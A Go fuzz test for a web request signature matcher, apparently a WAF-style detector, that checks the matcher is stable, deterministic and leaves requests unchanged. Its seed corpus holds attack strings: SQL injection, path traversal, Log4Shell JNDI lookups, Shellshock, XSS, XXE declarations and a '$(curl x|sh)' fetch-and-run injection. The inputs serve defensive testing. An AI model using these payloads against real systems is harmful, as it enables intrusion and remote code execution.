package patterns

import (
	"bytes"
	"slices"
	"testing"
)

// FuzzMatch feeds arbitrary requests to the matcher: it must never panic,
// must not write to the request, must answer the same twice, must report
// each signature at most once, and a Memo (cold, then warm) must answer as
// Match does.
func FuzzMatch(f *testing.F) {
	seeds := [][5]string{
		{"GET", "/static/app.css", "", browserUA, ""},
		{"GET", "/item", "id=1%27%20OR%20%271%27%3D%271", "sqlmap/1.7", ""},
		{"GET", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "", "", ""},
		{"GET", "/", "x=${jndi:ldap://a/b}", "() { :; };", "${${lower:j}ndi:x}"},
		{"CONNECT", "foo.com:25", "", "", ""},
		{"GET", "http://x/ip.php", "", "", ""},
		{"GET", "/%c0%ae%c0%ae/%u002e%u002e/", "a=..%5c..%5c..%5cwin.ini&cmd=id", "", ""},
		{"GET", "/backup.zip", "q=%3Cscript%3Ealert(1)%3C/script%3E&u=http://x/s.txt?", "", ""},
		{"", "", "&&&===&%", "\x00", "%"},
		{"GET", "/.env", "a=$(curl+x|sh)&b=;id&c=`id`", "", ""},
		// seventh session: the empty path parameter, source copies and
		// data extensions by shape, an entity declaration escaped
		{"GET", "/api;/x&nbsp;/;/a;b=c/..;/", "", "", ""},
		{"GET", "/Copy%20of%20x.php", "", "", ""},
		{"GET", "/~", "", "", ""},
		{"GET", "/a/.properties", "", "", ""},
		{"GET", "/x.php-", "q=%2BADw-!ENTITY+x+SYSTEM&r=%5Cu003c!DOCTYPE+a+%5B&s=%26amp%3Blt%3B!ENTITY", "", ""},
		// "&#x25;" alone cut a slice past its end (found by a unit test)
		{"GET", "/", "a=%26%23x25%3B&b=%26%2337%3B&c=%26%23x25%3Bx%3B", "", ""},
		// review of the seventh session: zero-padded references, a parameter
		// without a value, copies numbered, escaped decl spellings
		{"GET", "/a;x/b;/c;=/(12).php/x%20(3).php/y.php.old.txt/z(.php", "a=%26%23x000%3B&b=%26%23%3B&c=%26%23x0025%3B&d=%26%23037", "", ""},
		{"GET", "/;", "q=%2BADwAIQ-ENTITY&r=%5Cu003c%5Cu0021DOCTYPE+a+SYSTEM+%5C%22about%3A&s=%26%2338%3Bamp%3Blt%3B!DOCTYPE+a+PUBLIC+%22%22+%22http%3A%2F%2Fwww.w3", "", ""},
	}
	for _, s := range seeds {
		f.Add(s[0], s[1], s[2], s[3], s[4])
	}
	m, err := Compile(Options{User: []UserPattern{{ID: "u", Field: FieldURI, Regex: `a.*b`, Weight: 1}}})
	if err != nil {
		f.Fatal(err)
	}
	mm := m.newMemo(4) // shared by the inputs: slots filled by earlier ones
	f.Fuzz(func(t *testing.T, method, path, query, ua, ref string) {
		r := Request{Method: []byte(method), Path: []byte(path), Query: []byte(query), UA: []byte(ua), Referer: []byte(ref)}
		hits := m.Match(&r, nil)
		if !bytes.Equal(r.Path, []byte(path)) || !bytes.Equal(r.Query, []byte(query)) || !bytes.Equal(r.UA, []byte(ua)) ||
			!bytes.Equal(r.Referer, []byte(ref)) || !bytes.Equal(r.Method, []byte(method)) {
			t.Fatal("Match modified the request")
		}
		seen := map[string]bool{}
		for _, h := range hits {
			if seen[h.ID] {
				t.Fatalf("%s reported twice: %v", h.ID, ids(hits))
			}
			seen[h.ID] = true
		}
		if again := m.Match(&r, nil); !slices.Equal(ids(again), ids(hits)) {
			t.Fatalf("second Match %v, first %v", ids(again), ids(hits))
		}
		for range 2 {
			if got := mm.Match(&r, nil); !slices.Equal(got, hits) {
				t.Fatalf("Memo.Match %v, Match %v", ids(got), ids(hits))
			}
		}
		_ = Normalize(&r)
	})
}
